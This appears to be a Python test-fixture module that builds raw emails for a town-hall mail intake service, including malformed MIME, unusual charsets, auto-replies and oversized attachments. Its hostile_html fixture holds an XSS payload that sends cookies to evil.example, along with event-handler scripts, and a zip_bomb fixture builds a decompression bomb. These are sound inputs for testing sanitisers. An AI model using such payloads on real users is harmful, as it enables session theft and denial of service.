"""Emails as citizens' mail clients (and robots) really send them, as bytes."""

import base64
import io
import zipfile
from email import policy
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

from django.utils import timezone

SERVICE_ADDRESS = "mairie@mont-bonvillers.localhost"
ELODIE = "elodie.legall@example.fr"  # Élodie Le Gall's address (tests/conftest.py)


def simple(
    subject="Demande d'acte de naissance",
    body="Bonjour,\n\nje voudrais un acte de naissance pour mon fils.\n\nÉlodie Le Gall",
    sender=f"Élodie Le Gall <{ELODIE}>",
    message_id=None,
    headers=None,
    attachments=(),
    html=None,
) -> bytes:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = f"Mairie de Mont-Bonvillers <{SERVICE_ADDRESS}>"
    message["Subject"] = subject
    message["Date"] = format_datetime(timezone.now())
    message["Message-ID"] = message_id or make_msgid(domain="example.fr")
    for name, value in (headers or {}).items():
        del message[name]
        message[name] = value
    message.set_content(body)
    if html is not None:
        message.add_alternative(html, subtype="html")
    for filename, content, maintype, subtype in attachments:
        message.add_attachment(content, maintype=maintype, subtype=subtype, filename=filename)
    return message.as_bytes(policy=policy.SMTP)  # CRLF, as on the wire


def message_id_of(raw: bytes) -> str:
    for line in raw.splitlines():
        if line.lower().startswith(b"message-id:"):
            return line.split(b":", 1)[1].strip().decode()
    raise ValueError("no Message-ID")


def latin1_headers() -> bytes:
    """Raw 8-bit latin-1 in the headers (no RFC 2047), as old clients and scripts send."""
    return (
        "From: =?iso-8859-1?Q?=C9lodie_Le_Gall?= <elodie.legall@example.fr>\r\n"
        "To: mairie@mont-bonvillers.localhost\r\n"
        "Subject: Demande d'état civil pour ma fille Hélène\r\n"
        "Message-ID: <latin1-headers@example.fr>\r\n"
        "Date: Tue, 2 Dec 2025 09:30:00 +0100\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=iso-8859-1\r\n"
        "Content-Transfer-Encoding: 8bit\r\n"
        "\r\n"
        "Bonjour, ma fille Hélène est née à Mont-Bonvillers le 3 août.\r\n"
    ).encode("latin-1")


def unknown_charsets() -> bytes:
    """A charset nobody knows in a header's encoded word and in the body declaration; the
    bytes are latin-1, as they usually are."""
    return (
        b"From: =?x-mac-unknown?Q?Fran=E7ois_B=E9rard?= <francois.berard@example.fr>\r\n"
        b"To: mairie@mont-bonvillers.localhost\r\n"
        b"Subject: =?x-unknown-8bit?Q?Probl=E8me_de_voirie?= rue des\r\n"
        b" =?utf-8?B?w4lwaW5ldHRlcw==?=\r\n"
        b"Message-ID: <unknown-charsets@example.fr>\r\n"
        b"Date: Tue, 2 Dec 2025 10:00:00 +0100\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=x-klingon\r\n"
        b"Content-Transfer-Encoding: quoted-printable\r\n"
        b"\r\n"
        b"Il y a un nid-de-poule tr=E8s profond devant le n=B0 12.\r\n"
    )


def malformed_mime() -> bytes:
    """multipart/mixed whose boundary never appears, a part with broken base64, a header
    line without a colon, and a NUL byte."""
    return (
        b"From: Paul Martin <paul.martin@example.fr>\r\n"
        b"To: mairie@mont-bonvillers.localhost\r\n"
        b"Subject: Inscription cantine\r\n"
        b"Message-ID: <malformed-mime@example.fr>\r\n"
        b"Date: Tue, 2 Dec 2025 11:00:00 +0100\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="never-used"\r\n'
        b"this line has no colon\r\n"
        b"\r\n"
        b"--wrong-boundary\r\n"
        b"Content-Type: text/plain\r\n"
        b"\r\n"
        b"Bonjour, je souhaite inscrire mon fils a la cantine.\x00\r\n"
        b"--wrong-boundary\r\n"
        b"Content-Type: application/pdf; name=certificat.pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n"
        b"\r\n"
        b"JVBERi0xLj!!!not base64***\r\n"
    )


def broken_parts() -> bytes:
    """Right boundaries but broken parts: bad base64 in an attachment, a truncated end."""
    return (
        b"From: paul.martin@example.fr\r\n"
        b"To: mairie@mont-bonvillers.localhost\r\n"
        b"Subject: Justificatif\r\n"
        b"Message-ID: <broken-parts@example.fr>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b1"\r\n'
        b"\r\n"
        b"--b1\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n"
        b"\r\n"
        b"Voici le justificatif.\r\n"
        b"--b1\r\n"
        b'Content-Type: application/pdf; name="justificatif.pdf"\r\n'
        b'Content-Disposition: attachment; filename="justificatif.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n"
        b"\r\n"
        b"JVBERi0xLjQK%%%\r\n"
        b"--b1\r\n"
        b"Content-Type: text/plain\r\n"
    )


def not_an_email() -> bytes:
    return b"%PDF-1.4 this is a PDF file saved with the wrong extension\r\n\r\n"


def hostile_html() -> bytes:
    html = (
        "<html><head><script>document.location='https://evil.example/?c='+document.cookie"
        '</script><style>body{}</style></head><body onload="alert(1)">'
        '<p>Bonjour, voici <a href="javascript:alert(2)">mon dossier</a>.</p>'
        '<img src="https://tracker.example/pixel.gif?id=42" alt="pixel">'
        '<img src="cid:logo@example.fr" alt="logo">'
        '<iframe src="https://evil.example/"></iframe>'
        '<p onclick="steal()">Merci d\'avance.</p></body></html>'
    )
    message = EmailMessage()
    message["From"] = f"Élodie Le Gall <{ELODIE}>"
    message["To"] = SERVICE_ADDRESS
    message["Subject"] = "Mon dossier"
    message["Message-ID"] = "<hostile-html@example.fr>"
    message.set_content(html, subtype="html")
    return message.as_bytes(policy=policy.SMTP)  # CRLF, as on the wire


def zip_bomb() -> bytes:
    """A small zip that expands to 20 MB of zeros: compressed about 1,000 to 1."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("factures.txt", b"\x00" * (20 * 1024 * 1024))
    return buffer.getvalue()


def out_of_office(kind: str, in_reply_to: str = "") -> bytes:
    headers = {
        "auto-submitted": {"Auto-Submitted": "auto-replied"},
        "x-autoreply": {"X-Autoreply": "yes", "Precedence": "auto_reply"},
        "subject-only": {},  # some clients only say it in the subject
    }[kind]
    if in_reply_to:
        headers["In-Reply-To"] = in_reply_to
        headers["References"] = in_reply_to
    subject = "Réponse automatique : absente jusqu'au 5 janvier"
    return simple(
        subject=subject,
        body="Je suis absente du bureau jusqu'au 5 janvier. Je lirai votre message à mon retour.",
        headers=headers,
    )


def with_big_attachment(megabytes: int = 50) -> bytes:
    """A message with a `megabytes` MB attachment and a small PDF, written by hand: the
    email package's generator takes seconds per 10 MB."""
    big = base64.encodebytes(bytes(range(256)) * (megabytes * 1024 * 1024 // 256))
    pdf = base64.encodebytes(b"%PDF-1.4\nattestation\n")
    return b"\r\n".join(
        [
            f"From: Élodie Le Gall <{ELODIE}>".encode(),
            f"To: {SERVICE_ADDRESS}".encode(),
            b"Subject: Photos du sinistre",
            b"Message-ID: <big-attachment@example.fr>",
            b"MIME-Version: 1.0",
            b'Content-Type: multipart/mixed; boundary="sep"',
            b"",
            b"--sep",
            b"Content-Type: text/plain; charset=utf-8",
            b"Content-Transfer-Encoding: 8bit",
            b"",
            "Voici les photos du dégât des eaux.".encode(),
            b"--sep",
            b"Content-Type: application/octet-stream",
            b'Content-Disposition: attachment; filename="photos.tar"',
            b"Content-Transfer-Encoding: base64",
            b"",
            big.replace(b"\n", b"\r\n"),
            b"--sep",
            b"Content-Type: application/pdf",
            b'Content-Disposition: attachment; filename="attestation.pdf"',
            b"Content-Transfer-Encoding: base64",
            b"",
            pdf.replace(b"\n", b"\r\n"),
            b"--sep--",
            b"",
        ]
    )
